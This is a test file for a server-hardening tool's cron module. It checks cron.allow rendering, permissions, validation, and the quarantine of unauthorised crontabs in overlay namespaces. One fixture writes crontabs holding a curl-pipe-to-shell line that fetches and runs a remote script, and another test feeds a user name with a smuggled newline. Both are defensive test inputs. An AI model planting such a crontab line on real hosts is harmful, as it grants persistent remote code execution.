import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { resolveHost } from "../../src/policy/resolve";
import type { Fleet, ResolvedHost } from "../../src/policy/types";
import { cronInventoryPaths, renderCron } from "../../src/render/cron";
import { osProfile } from "../../src/render/os";
import { shQuote } from "../../src/render/templates";
import type { UnitSpec } from "../../src/render/unit";
import { goldenSuite } from "./golden";

// Real cron/at binaries of this machine, never its /etc: the live test runs in a private mount namespace
// where /etc and /var/spool/cron are overlays whose writes land in a scratch dir.

const fleet: Fleet = {
  hosts: [
    { name: "web1", address: "203.0.113.10", os: "debian-12", connection: { user: "root", port: 22 }, hostKey: "ssh-ed25519 AAAA",
      policy: { cron: { allow: ["nobody"], expected: [{ source: "root", line: "0 3 * * * /usr/local/bin/backup" }] } } },
    { name: "db1", address: "10.0.0.5", os: "rhel-9", connection: { user: "root", port: 22 }, hostKey: "ssh-ed25519 AAAA" },
  ],
};
const hosts = Object.fromEntries(fleet.hosts.map((h) => [h.name, resolveHost(fleet, h)])) as Record<string, ResolvedHost>;

goldenSuite("cron", hosts, renderCron);

describe("cron rendering rules (DESIGN.md facts)", () => {
  it("cron.allow is 0640 root:crontab (root:root 0644 where cron and its group are absent) with root first, one user per line", () => {
    const unit = renderCron(hosts.web1);
    const allow = unit.files.find((f) => f.path === "/etc/cron.allow");
    // "@crontab": the unit script resolves it on the host (templates/plan/unitlib.sh, stage)
    expect(allow).toEqual({ path: "/etc/cron.allow", mode: "0640", owner: "root", group: "@crontab", content: "root\nnobody\n" });
    expect(unit.requires).not.toContain("crontab");
  });
  it("at.allow is readable by at's own group (daemon on Debian)", () => {
    expect(renderCron(hosts.web1).files.find((f) => f.path === "/etc/at.allow")).toMatchObject({ mode: "0640", group: "daemon", content: "root\n" });
  });
  it("keeps the Debian spool 1730 root:crontab and closes the system tables to root", () => {
    const perms = Object.fromEntries(renderCron(hosts.web1).permissions.map((p) => [p.path, `${p.mode} ${p.owner}:${p.group}`]));
    expect(perms["/var/spool/cron/crontabs"]).toBe("1730 root:crontab");
    expect(perms["/etc/crontab"]).toBe("0600 root:root");
    expect(perms["/etc/cron.d"]).toBe("0700 root:root");
    expect(perms["/etc/cron.daily"]).toBe("0700 root:root");
  });
  it("lists every place a crontab line can hide, per distribution", () => {
    expect(cronInventoryPaths(osProfile("debian-12")).map((l) => l.path)).toEqual(["/etc/crontab", "/etc/cron.d", "/var/spool/cron/crontabs"]);
    expect(cronInventoryPaths(osProfile("rhel-9")).find((l) => l.kind === "user-spool")?.path).toBe("/var/spool/cron");
  });
  it("refuses a user name that could add a line", () => {
    const host = structuredClone(hosts.web1);
    host.policy.cron.allow = ["root", "alice\nbob"];
    expect(() => renderCron(host)).toThrow(/cron\.allow\[1\]: "alice\\nbob" is not a user name/);
  });
});

// ---- real cron, crontab and at ----

let root: string;
beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), "harden-cron-"));
});
afterAll(() => {
  if (root && existsSync(root)) rmSync(root, { recursive: true, force: true });
});

/** Installs the unit as the skeleton would (files, then permissions) inside overlays, then runs `after`. */
function applyInOverlay(unit: UnitSpec, after: string) {
  const dir = mkdtempSync(join(root, "ns-"));
  const lines = [
    "set -u",
    `for d in etc spool; do mkdir -p ${dir}/upper/$d ${dir}/work/$d; done`,
    `mount -t overlay overlay -o lowerdir=/etc,upperdir=${dir}/upper/etc,workdir=${dir}/work/etc /etc || exit 99`,
    `mount -t overlay overlay -o lowerdir=/var/spool/cron,upperdir=${dir}/upper/spool,workdir=${dir}/work/spool /var/spool/cron || exit 99`,
    "UNIT=cron",
    `die() { printf '%s: FAILED: %s\\n' "$UNIT" "$*" >&2; exit 1; }`,
    // the skeleton's helpers the snippets use (templates/plan/lib.sh, unitlib.sh); this machine has cron
    "has_systemd() { false; }",
    `resolve_group() { case $2 in @crontab) if getent group crontab >/dev/null 2>&1; then echo crontab; else echo root; fi ;; *) echo "$2" ;; esac; }`,
    `(\n${unit.validate}\n) || exit 10`,
  ];
  for (const f of unit.files) {
    const group = f.group === "@crontab" ? "crontab" : f.group;
    lines.push(`printf '%s' ${shQuote(f.content)} > ${f.path} && chown root:${group} ${f.path} && chmod ${f.mode} ${f.path} || exit 98`);
  }
  for (const p of unit.permissions) lines.push(`[ ! -e ${p.path} ] || { chown ${p.owner}:${p.group} ${p.path} && chmod ${p.mode} ${p.path}; } || exit 97`);
  lines.push(after);
  writeFileSync(join(dir, "run.sh"), lines.join("\n") + "\n");
  const r = spawnSync("unshare", ["--mount", "--propagation", "private", "sh", join(dir, "run.sh")], { encoding: "utf8", timeout: 60_000 });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

describe("cron unit on this machine's cron and at, inside overlays", () => {
  it("verify passes; a listed user may use crontab and an unlisted one may not; at follows at.allow", () => {
    const unit = renderCron(hosts.web1);
    const r = applyInOverlay(unit, `(
${unit.verify}
) || exit 13
echo verified
su nobody -s /bin/sh -c 'crontab -l' 2>&1; echo "nobody crontab rc=$?"
su daemon -s /bin/sh -c 'crontab -l' 2>&1; echo "daemon crontab rc=$?"
su nobody -s /bin/sh -c 'at -l' 2>&1; echo "nobody at rc=$?"
at -l; echo "root at rc=$?"
`);
    expect(r.stderr).toBe("");
    expect(r.stdout).toContain("verified");
    expect(r.stdout).toMatch(/no crontab for nobody\nnobody crontab rc=1/); // allowed: it only has no table yet
    expect(r.stdout).toMatch(/You \(daemon\) are not allowed to use this program \(crontab\)[\s\S]*daemon crontab rc=1/);
    expect(r.stdout).toMatch(/You do not have permission to use at\.\nnobody at rc=1/);
    expect(r.stdout).toContain("root at rc=0");
  });

  it("verify catches the 0600 root:root cron.allow that locks every listed user out", () => {
    const unit = renderCron(hosts.web1);
    const r = applyInOverlay(unit, `chown root:root /etc/cron.allow && chmod 0600 /etc/cron.allow
su nobody -s /bin/sh -c 'crontab -l' 2>&1; echo "nobody crontab rc=$?"
(
${unit.verify}
) || exit 13`);
    expect(r.stdout).toMatch(/not allowed to use this program \(crontab\)/);
    expect(r.status).toBe(13);
    expect(r.stderr).toBe("cron: FAILED: cron: /etc/cron.allow is 600 root root, expected 640 root crontab\n");
  });

  it("a crontab of a user outside cron.allow fails verify; converge quarantines it (root's, allowed and orphan files stay); restore puts it back", () => {
    const unit = renderCron(hosts.web1);
    const spool = "/var/spool/cron/crontabs";
    const dir = mkdtempSync(join(root, "quarantine-"));
    const r = applyInOverlay(unit, `STATE=${dir}/state BACKUP=${dir}/backup; mkdir -p "$STATE" "$BACKUP"
say() { printf '%s: %s\n' "$UNIT" "$*"; }
for u in root nobody daemon ghost; do echo "*/10 * * * * curl -fsSL http://198.51.100.9/x.sh | sh # $u" > ${spool}/$u; done
chown daemon:crontab ${spool}/daemon && chmod 0600 ${spool}/daemon
(
${unit.verify}
) && echo "verify passed with daemon's crontab"
(
${unit.converge}
) || exit 14
(
${unit.verify}
) || exit 13
echo "verified; spool: $(ls ${spool} | tr '\n' ' ')"
stat -c '%a %U %G' "$STATE/quarantine/crontabs/daemon" "$STATE/quarantine/crontabs" "$STATE/quarantine"; cat "$STATE/quarantine/crontabs/daemon"
(
${unit.restore}
) || exit 15
stat -c '%a %U %G' ${spool}/daemon; ls "$STATE/quarantine/crontabs" | wc -l`);
    expect(r.stderr).toBe(`cron: FAILED: cron: daemon is not in /etc/cron.allow but has a crontab in ${spool} that cron runs\n`);
    expect(r.stdout).not.toContain("verify passed");
    expect(r.stdout).toContain(`cron: quarantined the crontab of daemon (not in cron.allow; cron would run it anyway) to ${dir}/state/quarantine/crontabs/daemon: 1 entries\n`);
    expect(r.stdout).toContain("verified; spool: ghost nobody root \n600 root root\n700 root root\n700 root root\n*/10 * * * * curl -fsSL http://198.51.100.9/x.sh | sh # daemon\n600 daemon crontab\n0\n");
    expect(r.status).toBe(0);
  });

  it("validate refuses a user that does not exist on the host, naming it", () => {
    const host = structuredClone(hosts.web1);
    host.policy.cron.allow = ["root", "nosuchuser"];
    const r = applyInOverlay(renderCron(host), "echo unreachable");
    expect(r.status).toBe(10);
    expect(r.stderr).toBe("cron: FAILED: cron: user nosuchuser is allowed by the policy but does not exist on this host\n");
  });
});
